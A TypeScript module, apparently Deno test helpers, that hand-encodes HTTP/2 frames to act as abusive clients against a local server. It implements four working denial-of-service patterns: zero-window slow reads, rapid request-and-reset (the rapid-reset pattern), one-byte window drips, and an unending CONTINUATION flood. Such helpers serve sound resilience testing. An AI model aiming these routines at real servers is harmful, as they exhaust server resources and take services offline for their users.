/** Clients of HTTP/2 without TLS that abuse it: RFC 9113, with the header fields of RFC 7541 as literals. */

const ENCODER = new TextEncoder();
const PREFACE = ENCODER.encode("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const FRAME = { headers: 1, reset: 3, settings: 4, windowUpdate: 8, continuation: 9 } as const;
/** END_STREAM and END_HEADERS: a whole request. */
const WHOLE = 0x5;
const END_STREAM = 0x1;
const CANCEL = [0, 0, 0, 8];
const INITIAL_WINDOW_SIZE = 4;

function frame(type: number, flags: number, stream: number, payload: readonly number[]): number[] {
  const bytes = (value: number, count: number) =>
    Array.from({ length: count }, (_, i) => (value >>> (8 * (count - 1 - i))) & 0xff);
  return [...bytes(payload.length, 3), type, flags, ...bytes(stream, 4), ...payload];
}

/** "Literal header field without indexing, new name". */
function field(name: string, value: string): number[] {
  return [0, name.length, ...ENCODER.encode(name), value.length, ...ENCODER.encode(value)];
}

/** The frame that asks for a path. */
function request(port: number, path: string, stream: number, flags = WHOLE): number[] {
  const fields = [[":method", "GET"], [":scheme", "http"], [":path", path], [":authority", `127.0.0.1:${port}`]];
  return frame(FRAME.headers, flags, stream, fields.flatMap(([name, value]) => field(name!, value!)));
}

/** A connection whose window is so large, on which these frames were sent. */
async function connect(port: number, window: number, frames: readonly number[]): Promise<Deno.TcpConn> {
  const connection = await Deno.connect({ hostname: "127.0.0.1", port });
  const settings = frame(FRAME.settings, 0, 0, [0, INITIAL_WINDOW_SIZE, 0, 0, 0, window]);
  await send(connection, [...PREFACE, ...settings, ...frames]);
  return connection;
}

async function send({ writable }: Deno.TcpConn, bytes: readonly number[]): Promise<void> {
  const writer = writable.getWriter();
  try {
    await writer.write(Uint8Array.from(bytes));
  } finally {
    writer.releaseLock();
  }
}

/** Asks for each path on one connection, whose window is 0: no byte of a body is taken. */
export function askAndNeverRead(port: number, paths: readonly string[]): Promise<Deno.TcpConn> {
  return connect(port, 0, paths.flatMap((path, i) => request(port, path, 2 * i + 1)));
}

/** Asks for a path again and again, and takes each request back at once. */
export function askAndCancel(port: number, path: string, count: number): Promise<Deno.TcpConn> {
  const one = (
    _: unknown,
    i: number,
  ) => [...request(port, path, 2 * i + 1), ...frame(FRAME.reset, 0, 2 * i + 1, CANCEL)];
  return connect(port, 0, Array.from({ length: count }, one).flat());
}

/** Asks once; gives what takes one more byte of the answer. */
export async function askAndDrip(port: number, path: string) {
  const connection = await connect(port, 0, request(port, path, 1));
  return { connection, drip: () => send(connection, frame(FRAME.windowUpdate, 0, 1, [0, 0, 0, 1])) };
}

/** Begins a request whose fields never end; gives what sends more of them. */
export async function askWithoutEnd(port: number) {
  const connection = await connect(port, 0, request(port, "/metrics", 1, END_STREAM));
  const more = frame(FRAME.continuation, 0, 1, field("x", "y".repeat(100)));
  return { connection, more: () => send(connection, Array.from({ length: 100 }, () => more).flat()) };
}
